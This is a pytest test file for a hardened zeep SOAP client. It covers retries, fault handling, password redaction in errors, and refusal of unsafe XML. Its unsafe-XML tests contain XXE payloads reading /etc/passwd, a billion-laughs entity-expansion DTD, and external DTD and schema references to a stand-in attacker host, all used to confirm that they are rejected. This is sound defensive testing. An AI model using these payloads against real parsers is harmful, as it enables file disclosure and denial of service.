"""The shared zeep client: hardened XML, the hub's HTTP client underneath, errors translated.

Every WSDL here is written to ``tmp_path`` and every SOAP call is answered by an httpx
transport handler that records what it was asked: "nothing fetched from outside" means the
handler saw no request for it (and there is no other way out: zeep's requests session is
never built).
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest

from connectors.errors import (
    AmbiguousOutcome,
    AuthenticationError,
    FatalConnectorError,
    RateLimited,
    RemoteRejected,
    RetriableConnectorError,
)
from connectors.http import HttpClientConfig
from connectors.soap import SoapClient, build_soap_client, hardened_settings
from tests.connectors.conftest import SleepRecorder

NS = "urn:dmshub:test:echo"
ENDPOINT = "https://soap.vendor.test/echo"
SOAP_ENV = "http://schemas.xmlsoap.org/soap/envelope/"


def wsdl_text(types_extra: str = "", prolog: str = "") -> str:
    return f"""<?xml version="1.0" encoding="UTF-8"?>{prolog}
<definitions name="Echo" targetNamespace="{NS}" xmlns="http://schemas.xmlsoap.org/wsdl/"
    xmlns:soap="http://schemas.xmlsoap.org/wsdl/soap/" xmlns:tns="{NS}">
  <types>
    <schema xmlns="http://www.w3.org/2001/XMLSchema" targetNamespace="{NS}" elementFormDefault="qualified">
      {types_extra}
      <element name="EchoRequest"><complexType><sequence>
        <element name="text" type="string"/></sequence></complexType></element>
      <element name="EchoResponse"><complexType><sequence>
        <element name="text" type="string"/></sequence></complexType></element>
    </schema>
  </types>
  <message name="In"><part name="body" element="tns:EchoRequest"/></message>
  <message name="Out"><part name="body" element="tns:EchoResponse"/></message>
  <portType name="EchoPort">
    <operation name="Echo"><input message="tns:In"/><output message="tns:Out"/></operation>
  </portType>
  <binding name="EchoBinding" type="tns:EchoPort">
    <soap:binding style="document" transport="http://schemas.xmlsoap.org/soap/http"/>
    <operation name="Echo"><soap:operation soapAction="urn:echo"/>
      <input><soap:body use="literal"/></input><output><soap:body use="literal"/></output></operation>
  </binding>
  <service name="EchoService"><port name="EchoPort" binding="tns:EchoBinding">
    <soap:address location="http://placeholder.invalid/echo"/></port></service>
</definitions>"""


def envelope(body: str, prolog: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}'
        f'<env:Envelope xmlns:env="{SOAP_ENV}"><env:Body>{body}</env:Body></env:Envelope>'
    ).encode()


def echo_reply(text: str) -> bytes:
    return envelope(f'<EchoResponse xmlns="{NS}"><text>{text}</text></EchoResponse>')


def fault(code: str, message: str) -> bytes:
    return envelope(
        f'<env:Fault xmlns:wsse="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd">'
        f"<faultcode>{code}</faultcode><faultstring>{message}</faultstring></env:Fault>"
    )


class Remote:
    """An httpx handler answering each request with the next reply (or raising it)."""

    def __init__(
        self, *replies: httpx.Response | Exception | Callable[[httpx.Request], httpx.Response]
    ) -> None:
        self.replies = list(replies)
        self.requests: list[httpx.Request] = []

    def __call__(self, request: httpx.Request) -> httpx.Response:
        self.requests.append(request)
        reply = self.replies.pop(0) if len(self.replies) > 1 else self.replies[0]
        if isinstance(reply, Exception):
            raise reply
        return reply(request) if callable(reply) else reply


def xml(status: int, content: bytes) -> httpx.Response:
    return httpx.Response(status, content=content, headers={"Content-Type": "text/xml; charset=utf-8"})


def client(
    tmp_path: Path, remote: Remote, sleeps: SleepRecorder, *, text: str | None = None, **kwargs: Any
) -> SoapClient:
    path = tmp_path / "wsdl" / "echo.wsdl"
    path.parent.mkdir(exist_ok=True)
    path.write_text(text or wsdl_text(), encoding="utf-8")
    http = HttpClientConfig(system="echo", max_retries=2, sleep=sleeps)
    return build_soap_client(path, http, endpoint=ENDPOINT, transport=httpx.MockTransport(remote), **kwargs)


def test_the_settings_forbid_dtds_entities_and_external_references() -> None:
    settings = hardened_settings()
    assert (settings.forbid_dtd, settings.forbid_entities, settings.forbid_external) == (True, True, True)
    assert (settings.strict, settings.xml_huge_tree) == (True, False)


def test_a_call_goes_to_the_endpoint_through_httpx_with_a_username_token(
    tmp_path: Path, sleeps: SleepRecorder
) -> None:
    remote = Remote(xml(200, echo_reply("pong")))
    soap = client(tmp_path, remote, sleeps, username="isg-user", password="s3cret-Pa55")
    assert soap.call("Echo", idempotent=True, text="ping") == "pong"
    [request] = remote.requests
    assert str(request.url) == ENDPOINT and request.headers["SOAPAction"] == '"urn:echo"'
    body = request.content.decode()
    assert "<wsse:Username>isg-user</wsse:Username>" in body
    assert "#PasswordText" in body and ">s3cret-Pa55</wsse:Password>" in body


def test_a_soap_fault_is_refused_with_its_fault_string(tmp_path: Path, sleeps: SleepRecorder) -> None:
    remote = Remote(xml(500, fault("env:Server", "ORA-20001: customer 4711 is on credit hold")))
    with pytest.raises(RemoteRejected) as caught:
        client(tmp_path, remote, sleeps).call("Echo", idempotent=False, text="x")
    assert caught.value.remote_messages == ("ORA-20001: customer 4711 is on credit hold",)
    assert "[env:Server]" in str(caught.value)
    assert len(remote.requests) == 1  # a fault is an answer: never retried


def test_a_ws_security_fault_is_an_authentication_error_without_the_password(
    tmp_path: Path, sleeps: SleepRecorder
) -> None:
    remote = Remote(xml(500, fault("wsse:FailedAuthentication", "token for isg-user / s3cret-Pa55 rejected")))
    soap = client(tmp_path, remote, sleeps, username="isg-user", password="s3cret-Pa55")
    with pytest.raises(AuthenticationError) as caught:
        soap.call("Echo", idempotent=True, text="x")
    assert "s3cret-Pa55" not in str(caught.value) and "***" in str(caught.value)


def test_a_read_that_times_out_is_retried(tmp_path: Path, sleeps: SleepRecorder) -> None:
    remote = Remote(httpx.ReadTimeout("slow"), xml(200, echo_reply("late")))
    assert client(tmp_path, remote, sleeps).call("Echo", idempotent=True, text="x") == "late"
    assert len(remote.requests) == 2 and len(sleeps.calls) == 1


def test_a_write_that_times_out_after_sending_is_ambiguous_and_not_resent(
    tmp_path: Path, sleeps: SleepRecorder
) -> None:
    remote = Remote(httpx.ReadTimeout("slow"))
    with pytest.raises(AmbiguousOutcome):
        client(tmp_path, remote, sleeps).call("Echo", idempotent=False, text="x")
    assert len(remote.requests) == 1


def test_a_proxy_error_page_on_a_write_is_ambiguous_not_a_fault(
    tmp_path: Path, sleeps: SleepRecorder
) -> None:
    remote = Remote(
        httpx.Response(
            500, text="<html><body>Bad gateway</body></html>", headers={"Content-Type": "text/html"}
        )
    )
    with pytest.raises(AmbiguousOutcome, match="HTTP 500"):
        client(tmp_path, remote, sleeps).call("Echo", idempotent=False, text="x")


def test_a_throttled_call_waits_as_long_as_retry_after_asks(tmp_path: Path, sleeps: SleepRecorder) -> None:
    remote = Remote(httpx.Response(429, headers={"Retry-After": "4"}), xml(200, echo_reply("ok")))
    assert client(tmp_path, remote, sleeps).call("Echo", idempotent=False, text="x") == "ok"
    assert sleeps.calls == [4.0]


def test_a_call_throttled_every_time_fails_as_rate_limited(tmp_path: Path, sleeps: SleepRecorder) -> None:
    remote = Remote(httpx.Response(429, headers={"Retry-After": "2"}))
    with pytest.raises(RateLimited):
        client(tmp_path, remote, sleeps).call("Echo", idempotent=True, text="x")


def test_an_unavailable_service_is_retriable(tmp_path: Path, sleeps: SleepRecorder) -> None:
    remote = Remote(httpx.Response(503, text="down"))
    with pytest.raises(RetriableConnectorError) as caught:
        client(tmp_path, remote, sleeps).call("Echo", idempotent=True, text="x")
    assert caught.value.status_code == 503 and len(remote.requests) == 3


# -- unsafe XML -------------------------------------------------------------------------------

BILLION_LAUGHS = """
<!DOCTYPE definitions [
  <!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>"""


@pytest.mark.parametrize(
    "prolog",
    [
        BILLION_LAUGHS,
        '<!DOCTYPE definitions [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE definitions SYSTEM "http://attacker.invalid/evil.dtd">',
    ],
    ids=["entity-expansion", "external-entity", "external-dtd"],
)
def test_a_wsdl_carrying_a_dtd_is_refused_and_nothing_is_fetched(
    prolog: str, tmp_path: Path, sleeps: SleepRecorder
) -> None:
    remote = Remote(xml(200, b""))
    with pytest.raises(FatalConnectorError, match="refused unsafe XML"):
        client(tmp_path, remote, sleeps, text=wsdl_text(prolog=prolog))
    assert remote.requests == []


def test_a_wsdl_importing_a_remote_schema_is_refused_and_nothing_is_fetched(
    tmp_path: Path, sleeps: SleepRecorder
) -> None:
    remote = Remote(xml(200, b"<schema/>"))
    imports = '<import namespace="urn:evil" schemaLocation="http://attacker.invalid/evil.xsd"/>'
    with pytest.raises(FatalConnectorError, match="ExternalReferenceForbidden"):
        client(tmp_path, remote, sleeps, text=wsdl_text(types_extra=imports))
    assert remote.requests == []


@pytest.mark.parametrize(
    ("location", "reason"),
    [
        ("../outside.xsd", "ExternalReferenceForbidden"),
        ("file:///etc/hostname", "ExternalReferenceForbidden"),
        ("/etc/hostname", "ExternalReferenceForbidden"),
        # zeep reads an unknown scheme as a relative path: inside the folder, and absent
        ("ftp://attacker.invalid/x.xsd", "cannot read x.xsd"),
    ],
)
def test_a_wsdl_including_a_file_outside_its_folder_is_refused(
    location: str, reason: str, tmp_path: Path, sleeps: SleepRecorder
) -> None:
    (tmp_path / "outside.xsd").write_text(
        f'<schema xmlns="http://www.w3.org/2001/XMLSchema" targetNamespace="{NS}"/>'
    )
    include = f'<include schemaLocation="{location}"/>'
    remote = Remote(xml(200, b""))
    with pytest.raises(FatalConnectorError, match=reason):
        client(tmp_path, remote, sleeps, text=wsdl_text(types_extra=include))
    assert remote.requests == []


def test_a_wsdl_including_a_schema_beside_it_loads(tmp_path: Path, sleeps: SleepRecorder) -> None:
    (tmp_path / "wsdl").mkdir()
    (tmp_path / "wsdl" / "extra.xsd").write_text(
        f'<schema xmlns="http://www.w3.org/2001/XMLSchema" targetNamespace="{NS}">'
        '<element name="Extra" type="string"/></schema>'
    )
    soap = client(
        tmp_path,
        Remote(xml(200, b"")),
        sleeps,
        text=wsdl_text(types_extra='<include schemaLocation="extra.xsd"/>'),
    )
    assert soap.element(f"{{{NS}}}Extra") is not None


@pytest.mark.parametrize(
    ("prolog", "text"),
    [
        ('<!DOCTYPE env:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"),
        ('<!DOCTYPE env:Envelope SYSTEM "http://attacker.invalid/evil.dtd">', "plain"),
        (BILLION_LAUGHS.replace("definitions", "env:Envelope"), "&lol3;"),
    ],
    ids=["external-entity", "external-dtd", "entity-expansion"],
)
def test_a_response_carrying_a_dtd_is_refused_and_nothing_is_fetched(
    prolog: str, text: str, tmp_path: Path, sleeps: SleepRecorder
) -> None:
    remote = Remote(
        xml(200, envelope(f'<EchoResponse xmlns="{NS}"><text>{text}</text></EchoResponse>', prolog))
    )
    with pytest.raises(FatalConnectorError, match="refused unsafe XML") as caught:
        client(tmp_path, remote, sleeps).call("Echo", idempotent=True, text="x")
    assert "root:" not in str(caught.value) and "lollol" not in str(caught.value)
    assert [str(r.url) for r in remote.requests] == [ENDPOINT]


def test_the_wsdl_can_be_loaded_over_https_through_the_same_client(
    tmp_path: Path, sleeps: SleepRecorder
) -> None:
    remote = Remote(
        lambda r: xml(200, wsdl_text().encode()) if r.method == "GET" else xml(200, echo_reply("ok"))
    )
    http = HttpClientConfig(system="echo", sleep=sleeps)
    soap = build_soap_client(
        "https://soap.vendor.test/echo?wsdl", http, endpoint=ENDPOINT, transport=httpx.MockTransport(remote)
    )
    assert soap.call("Echo", idempotent=True, text="x") == "ok"
    assert [r.method for r in remote.requests] == ["GET", "POST"]
